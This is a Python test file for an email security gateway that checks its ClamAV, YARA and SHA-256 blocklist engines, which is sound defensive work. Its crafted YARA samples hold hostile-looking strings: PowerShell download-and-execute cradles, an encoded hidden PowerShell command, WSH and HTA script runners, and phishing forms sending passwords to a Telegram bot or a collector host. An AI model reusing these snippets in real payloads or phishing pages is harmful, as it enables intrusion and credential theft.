"""Antivirus engines: a real clamd, YARA rules compiled for real, SHA-256 lists.

clamd runs on a signature database these tests write (see clamd_support). The
end-to-end tests send over SMTP to a real ``mailward serve``; the engine
tests drive the same client and rules directly.
"""

from __future__ import annotations

import asyncio
import hashlib
import smtplib
import struct
import time
from pathlib import Path

import httpx
import pytest

from mailward.attachments.files import FileNode
from mailward.content.antivirus import HashListEngine, parse_hash_list, scan_targets
from mailward.content.clamav import ClamavEngine, ClamdClient, ClamdError, parse_reply
from mailward.content.yarascan import YaraEngine, compile_rules, rule_files
from mailward.message import Message
from tests.attachments import samples
from tests.content.clamd_support import (  # noqa: F401 (clamd is a fixture)
    EICAR_SIGNATURE,
    MARKER,
    MARKER_SIGNATURE,
    SAMPLE,
    SAMPLE_SIGNATURE,
    clamd,
)
from tests.support.dnsserver import free_port
from tests.support.gateway import SHARED

MALWARE = SHARED / "corpus" / "malware"
CASES = SHARED / "cases"


def run(coroutine):
    return asyncio.run(coroutine)


def node(name: str, data: bytes) -> FileNode:
    return FileNode(name, data)



def symbols(verdict: dict) -> set[str]:
    return {f["symbol"] for f in verdict["findings"]}


# clamd over its socket protocol.


def test_instream_over_unix_and_tcp_finds_the_generated_signatures(clamd):
    for address in (str(clamd.socket_path), clamd.tcp):
        client = ClamdClient(address, 10)
        assert run(client.ping())
        assert run(client.version()).startswith("ClamAV")
        found = run(client.instream(SAMPLE))
        assert (found.status, found.signature) == ("FOUND", SAMPLE_SIGNATURE + ".UNOFFICIAL")
        marker = run(client.instream(b"x" * 200_000 + MARKER + b"y" * 10))
        assert marker.status == "FOUND" and marker.signature.startswith(MARKER_SIGNATURE)
        assert run(client.instream(b"an ordinary file")).status == "OK"


def test_clamd_opens_the_corpus_zip_and_finds_the_eicar_member(clamd, shared):
    archive = (MALWARE / "synthetic/eicar_com.zip").read_bytes()
    engine = ClamavEngine(ClamdClient(str(clamd.socket_path), 10), max_size=1024 * 1024)
    result = run(engine.scan(node("eicar_com.zip", archive)))
    assert result.malicious and result.signature.startswith(EICAR_SIGNATURE)
    clean = (MALWARE / "oletools-test-data/msodde/harmless-clean.docx").read_bytes()
    assert not run(engine.scan(node("clean.docx", clean))).malicious


def test_a_stream_over_clamds_limit_is_too_big_never_clean(clamd):
    # The daemon's StreamMaxLength is 1M; the gateway's limit is set higher on purpose.
    engine = ClamavEngine(ClamdClient(str(clamd.socket_path), 10), max_size=8 * 1024 * 1024)
    result = run(engine.scan(node("big.bin", MARKER + b"\0" * (2 * 1024 * 1024))))
    assert not result.malicious and "size limit" in result.too_big


def test_a_file_over_max_size_is_not_sent_and_is_reported(clamd):
    engine = ClamavEngine(ClamdClient(str(clamd.socket_path), 10), max_size=1000)
    result = run(engine.scan(node("big.bin", b"a" * 1001)))
    assert "over clamav.max_size" in result.too_big
    assert "big.bin" not in clamd.log()


def test_a_dead_clamd_is_an_error_not_clean(clamd):
    client = ClamdClient(str(clamd.socket_path), 5)
    clamd.kill()
    with pytest.raises(ClamdError):
        run(client.instream(SAMPLE))


def test_replies_are_parsed_and_nonsense_is_an_error():
    assert parse_reply(b"stream: OK\0").status == "OK"
    found = parse_reply(b"stream: Win.Test.EICAR_HDB-1 FOUND\0")
    assert (found.status, found.signature) == ("FOUND", "Win.Test.EICAR_HDB-1")
    assert parse_reply(b"stream: Heuristics.Limits.Exceeded.MaxFileSize FOUND").status \
        == "TOO_BIG"
    assert parse_reply(b"INSTREAM size limit exceeded. ERROR").status == "TOO_BIG"
    for junk in (b"stream: Can't allocate memory ERROR", b"\xff\xfe", b"UNKNOWN COMMAND"):
        with pytest.raises(ClamdError):
            parse_reply(junk)


def test_a_silent_server_times_out_as_an_error(tmp_path):
    import socket

    listener = socket.socket(socket.AF_UNIX)
    path = Path("/tmp") / f"mw-silent-{id(tmp_path)}.sock"
    path.unlink(missing_ok=True)
    listener.bind(str(path))
    listener.listen()
    try:
        started = time.monotonic()
        with pytest.raises(ClamdError, match="did not answer"):
            run(ClamdClient(str(path), 1).instream(b"x" * 10))
        assert time.monotonic() - started < 5
    finally:
        listener.close()
        path.unlink(missing_ok=True)


# End to end over SMTP.


def clamd_config(address: str, **extra) -> dict:
    # The spam model is off so that the antivirus findings alone decide.
    return {"clamav": {"address": address, **extra},
            "pipeline": {"disabled_checks": ["spam_model"]}}


def test_smtp_each_engine_stops_its_kind_and_clean_mail_passes(
        gateway_factory, smtp_sink, clamd, tmp_path):
    listed = b"quarterly figures, listed by hash"
    hashes = tmp_path / "bad.sha256"
    hashes.write_text(f"{hashlib.sha256(listed).hexdigest()} Test.Listed.File\n")
    config = clamd_config(str(clamd.socket_path))
    config["hashlist"] = {"files": [str(hashes)]}
    gateway = gateway_factory(config, relay=smtp_sink.url)

    # ClamAV: a listed attachment, a marker inside a zip member, a marker in the body.
    with pytest.raises(smtplib.SMTPDataError) as refused:
        gateway.send(samples.message([("sample.bin", "application/octet-stream", SAMPLE)],
                                     subject="clamd-direct"))
    assert refused.value.smtp_code == 550 and b"CLAMAV_VIRUS" in refused.value.smtp_error
    archive = samples.zip_of({"docs/readme.txt": b"hello " + MARKER})
    with pytest.raises(smtplib.SMTPDataError) as refused:
        gateway.send(samples.message([("docs.zip", "application/zip", archive)],
                                     subject="clamd-zip"))
    assert refused.value.smtp_code == 550
    verdict = gateway.verdict("clamd-zip")
    assert verdict["action"] == "reject" and "CLAMAV_VIRUS" in symbols(verdict)
    details = [f["detail"] for f in verdict["findings"] if f["symbol"] == "CLAMAV_VIRUS"]
    # clamd opens the zip itself; the member is also scanned on its own.
    assert any(MARKER_SIGNATURE in d and "docs.zip > docs/readme.txt" in d for d in details)
    body = (b"From: dana@example.org\r\nTo: user@example.com\r\nSubject: clamd-body\r\n"
            b"Message-ID: <body.clamd@example.org>\r\n\r\nText " + MARKER + b"\r\n")
    with pytest.raises(smtplib.SMTPDataError) as refused:
        gateway.send(body)
    assert refused.value.smtp_code == 550

    # The SHA-256 list file.
    with pytest.raises(smtplib.SMTPDataError) as refused:
        gateway.send(samples.message([("q.xlsx", "application/octet-stream", listed)],
                                     subject="hash-listed"))
    assert refused.value.smtp_code == 550
    [hit] = [f for f in gateway.verdict("hash-listed")["findings"]
             if f["symbol"] == "AV_HASH_BLOCKLISTED"]
    assert "Test.Listed.File" in hit["detail"]

    # YARA: an HTML smuggling page is quarantined.
    page = samples.smuggling_page(b"PK\x05\x06" + b"\0" * 18)
    assert gateway.send(samples.message([("statement.html", "text/html", page)],
                                        subject="yara-smuggle")).startswith("2.0.0")
    verdict = gateway.verdict("yara-smuggle")
    assert "YARA_MALICIOUS" in symbols(verdict) and verdict["action"] == "quarantine"

    # Clean mail passes every engine and is delivered.
    clean = gateway.send(samples.message([("notes.txt", "text/plain", b"minutes")],
                                         subject="clamd-clean"))
    assert clean.startswith("2.0.0")
    smtp_sink.wait_for(1)
    assert gateway.verdict("clamd-clean")["action"] == "deliver"
    assert "instream" in clamd.log().lower()


def test_smtp_clamd_down_answers_451_and_keeps_the_bytes(gateway_factory, smtp_sink, clamd):
    gateway = gateway_factory(clamd_config(str(clamd.socket_path)), relay=smtp_sink.url)
    clamd.kill()
    raw = samples.message([("report.pdf", "application/pdf", b"%PDF-1.4 plain")],
                          subject="clamd-down")
    with pytest.raises(smtplib.SMTPDataError) as refused:
        gateway.send(raw)
    assert refused.value.smtp_code == 451
    log = gateway.wait_log("CLAMAV_FAIL")
    assert "copy parked" in log
    parked = list((gateway.data_dir / "spool" / "parked").iterdir())
    assert any(b"clamd-down" in path.read_bytes() for path in parked if path.is_file())
    assert smtp_sink.messages == []


def test_smtp_clamd_down_with_on_fail_quarantine(gateway_factory, smtp_sink, clamd):
    gateway = gateway_factory(clamd_config(str(clamd.socket_path), on_fail="quarantine"),
                              relay=smtp_sink.url)
    clamd.kill()
    reply = gateway.send(samples.message([("a.txt", "text/plain", b"x")],
                                         subject="clamd-q"))
    assert reply.startswith("2.0.0")
    verdict = gateway.verdict("clamd-q")
    assert verdict["action"] == "quarantine"
    assert {"AV_FAIL_QUARANTINE", "CLAMAV_FAIL"} <= symbols(verdict)
    assert verdict["reason"] == "symbol AV_FAIL_QUARANTINE forces quarantine"


def test_smtp_file_over_the_limit_is_tagged_not_passed_clean(gateway_factory, smtp_sink,
                                                             clamd):
    gateway = gateway_factory(clamd_config(str(clamd.socket_path), max_size=4096),
                              relay=smtp_sink.url)
    reply = gateway.send(samples.message([("big.bin", "application/octet-stream",
                                           b"\x01" * 10_000)], subject="clamd-big"))
    assert reply.startswith("2.0.0")
    verdict = gateway.verdict("clamd-big")
    assert "CLAMAV_TOO_BIG" in symbols(verdict)
    assert verdict["action"] == "tag"


def test_a_bad_clamav_address_stops_start_up(tmp_path):
    from mailward.config import ConfigError, load_settings

    with pytest.raises(ConfigError, match="clamav.address: .* socket path"):
        load_settings(overrides={"clamav.address": "no port here:"})


# Readiness: a configured clamd that does not answer.


def readyz(gateway) -> httpx.Response:
    return httpx.get(f"{gateway.web_url}/readyz", timeout=10)


def test_a_clamd_that_does_not_answer_makes_the_node_not_ready(gateway_factory,
                                                                smtp_sink):
    address = f"127.0.0.1:{free_port()}"  # nothing listens there
    gateway = gateway_factory(clamd_config(address), relay=smtp_sink.url, start=False)
    gateway.start(ready=False)
    answer = readyz(gateway)
    assert answer.status_code == 503
    assert answer.json()["status"] == "not ready"
    detail = answer.json()["detail"]
    assert detail.startswith(f"clamav: clamd at {address}: ")
    assert "on_fail = tempfail" in detail
    log = gateway.wait_log("clamav does not answer")
    assert f"clamav does not answer: clamd at {address}" in log
    assert "every message is answered 451 and parked" in log


def test_a_clamd_down_with_mail_still_flowing_is_ready_and_named(gateway_factory,
                                                                  smtp_sink):
    address = f"127.0.0.1:{free_port()}"
    gateway = gateway_factory(clamd_config(address, on_fail="tag"), relay=smtp_sink.url)
    answer = readyz(gateway)
    assert answer.status_code == 200
    [degraded] = answer.json()["degraded"]
    assert degraded.startswith(f"clamav: clamd at {address}: ")
    assert "on_fail = tag" in degraded
    assert "clamav does not answer" in gateway.wait_log("clamav does not answer")


def test_readiness_follows_a_real_clamd(gateway_factory, smtp_sink, clamd):
    gateway = gateway_factory(clamd_config(clamd.tcp), relay=smtp_sink.url)
    assert readyz(gateway).json() == {"status": "ready"}
    assert "does not answer" not in gateway.log()
    clamd.kill()
    # Answers are reused for a few seconds; then the dead daemon is named.
    deadline = time.monotonic() + 30
    while (answer := readyz(gateway)).status_code == 200 \
            and time.monotonic() < deadline:
        time.sleep(0.5)
    assert answer.status_code == 503, answer.text
    assert answer.json()["detail"].startswith(f"clamav: clamd at {clamd.tcp}: ")


# YARA.


def yara_engine(rules_dir: str = "", builtin: bool = True) -> YaraEngine:
    return YaraEngine.from_settings(rules_dir, builtin, 32 * 1024 * 1024, 10)


def yara_hits(data: bytes, engine: YaraEngine | None = None):
    return run((engine or yara_engine()).scan(node("sample", data)))


def ole_with(*strings: bytes) -> bytes:
    """ole_with - an OLE2 container whose VBA project names these identifiers."""
    header = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504
    return header + b"\0".join([b"_VBA_PROJECT", b"Attribute VB_Name = \"Module1\"",
                                *strings]) + b"\0" * 64


def lnk_with(arguments: str) -> bytes:
    header = struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046")
    return header + b"\0" * 56 + arguments.encode("utf-16-le")


CRAFTED = {
    "mw_macro_autoexec_shell": ole_with(b"AutoOpen", b"CreateObject", b"WScript.Shell"),
    "mw_html_smuggling_blob_download": samples.smuggling_page(b"PK\x05\x06" + b"\0" * 18),
    "mw_html_data_uri_download": b"<html><a href=\"data:application/zip;base64,UEsFBg==\" "
                                 b"download=\"invoice.zip\">open</a></html>",
    "mw_wsh_download_execute": (b"var x = new ActiveXObject('MSXML2.XMLHTTP');"
                                b"x.open('GET','http://dl.example.net/a',false);x.send();"
                                b"var s = new ActiveXObject('ADODB.Stream');s.SaveToFile(p);"
                                b"new ActiveXObject('WScript.Shell').Run(p);"),
    "mw_powershell_download_cradle": b"powershell -nop -c \"IEX (New-Object Net.WebClient)"
                                     b".DownloadString('http://dl.example.net/s')\"",
    "mw_powershell_encoded_hidden": b"cmd /c powershell -w hidden -enc "
                                    + b"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
    "mw_lnk_launches_interpreter": lnk_with(r"C:\Windows\System32\mshta.exe http://x"),
    "mw_hta_script_runner": b"<html><hta:application id=a><script language=vbscript>"
                            b"CreateObject(\"WScript.Shell\").Run \"calc\"</script></html>",
    "mw_phish_telegram_exfiltration": b"<form><input type=password name=p></form><script>"
                                      b"fetch('https://api.telegram.org/bot123:abc/sendMessage"
                                      b"?chat_id=1&text='+p.value)</script>",
    "mw_phish_login_posts_to_collector": b"<html><title>Sign in to Outlook</title><form "
                                         b"method=post action=\"https://collect.example.net/"
                                         b"next.php\"><input type=\"password\" name=pw>"
                                         b"</form></html>",
    "mw_pdf_launch_action": b"%PDF-1.4\n1 0 obj << /Type /Action /S /Launch /F (cmd.exe) >>",
}


@pytest.mark.parametrize("rule", sorted(CRAFTED))
def test_each_starter_rule_hits_its_crafted_sample(rule):
    result = yara_hits(CRAFTED[rule])
    assert rule in result.signature.split(", ")
    assert result.malicious


def test_phishing_kit_rules_say_phish_and_macro_rules_malware():
    from mailward.verdict import Category

    assert yara_hits(CRAFTED["mw_phish_telegram_exfiltration"]).category == Category.PHISH
    assert yara_hits(CRAFTED["mw_macro_autoexec_shell"]).category == Category.MALWARE


def test_suspicious_rules_are_not_malicious():
    result = yara_hits(ole_with(b"Document_Open", b"MsgBox"))
    assert result.suspicious and not result.malicious
    assert "mw_macro_autoexec" in result.signature


def test_starter_rules_stay_quiet_on_clean_files(shared):
    engine = yara_engine()
    clean = [MALWARE / "oletools-test-data/msodde/harmless-clean.doc",
             MALWARE / "oletools-test-data/msodde/harmless-clean.docx",
             MALWARE / "oletools-test-data/msodde/harmless-clean.docm",
             MALWARE / "oletools-test-data/ooxml/harmless-clean.xml"]
    for path in clean:
        result = yara_hits(path.read_bytes(), engine)
        assert not result.malicious and not result.suspicious, path
    assert not yara_hits(samples.CLEAN_PAGE, engine).malicious
    # Body parts of corpus ham are scanned too: none may match.
    for path in sorted((shared / "corpus/spam/ham").iterdir())[:150]:
        message = Message(path.read_bytes())
        for target in scan_targets(message):
            result = run(engine.scan(target))
            assert not result.malicious and not result.suspicious, (path.name, result)


def test_field_case_html_smuggling_matches(shared):
    message = Message((CASES / "C27_html_smuggling.eml").read_bytes())
    results = [run(yara_engine().scan(target)) for target in scan_targets(message)]
    assert any("mw_html_smuggling_blob_download" in r.signature for r in results)


def test_site_rules_directory_is_added_and_broken_rules_stop_start_up(tmp_path):
    (tmp_path / "site.yar").write_text(
        'rule site_marker { meta: severity = "suspicious" strings: $a = "SITE-MARK" '
        'condition: $a }')
    engine = yara_engine(str(tmp_path), builtin=False)
    assert yara_hits(b"xx SITE-MARK", engine).signature == "site_marker"
    assert not yara_hits(CRAFTED["mw_hta_script_runner"], engine).malicious
    (tmp_path / "broken.yar").write_text("rule broken { condition: $nothing }")
    with pytest.raises(ValueError, match="broken.yar"):
        yara_engine(str(tmp_path))
    (tmp_path / "broken.yar").write_text('rule odd { meta: severity = "bad" condition: true }')
    with pytest.raises(ValueError, match="severity"):
        yara_engine(str(tmp_path))
    with pytest.raises(ValueError, match="not a directory"):
        rule_files(str(tmp_path / "missing"), True)


def test_yara_file_over_the_limit_is_reported():
    engine = YaraEngine(compile_rules(rule_files("", True)), max_size=100, timeout=5)
    assert "yara.max_size" in run(engine.scan(node("big", b"a" * 101))).too_big


# SHA-256 lists.


def test_hash_list_file_is_read_and_reread_when_it_changes(tmp_path):
    from mailward.intel.store import IntelCache

    listed = b"a listed file"
    digest = hashlib.sha256(listed).hexdigest()
    path = tmp_path / "bad.sha256"
    path.write_text(f"# known bad\n{'0' * 64}  Other.Thing\n")
    engine = HashListEngine(IntelCache.__new__(IntelCache), [str(path)])
    engine.cache = _NoIntel()
    assert not run(engine.scan(node("f", listed))).malicious
    path.write_text(f"{digest.upper()}  Bad.Invoice.Dropper  # from the SOC\n")
    import os

    os.utime(path, ns=(time.time_ns() + 10**9, time.time_ns() + 10**9))
    result = run(engine.scan(node("f", listed)))
    assert result.malicious and "Bad.Invoice.Dropper" in result.signature
    path.unlink()
    failed = run(engine.scan(node("g", b"other")))
    assert failed.error and "bad.sha256" in failed.error


def test_an_unreadable_hash_list_stops_start_up(tmp_path):
    with pytest.raises(ValueError, match="hashlist.files: cannot read .*missing.sha256"):
        HashListEngine(_NoIntel(), [str(tmp_path / "missing.sha256")])


def test_hash_list_lines_are_parsed_tolerantly():
    text = f"{'a' * 64}\n{'b' * 64} Named One\nnot a hash\n{'c' * 63}\n  # comment\n"
    assert parse_hash_list(text) == {"a" * 64: "", "b" * 64: "Named One"}


class _NoIntel:
    def sha256(self, digest: str):
        return None
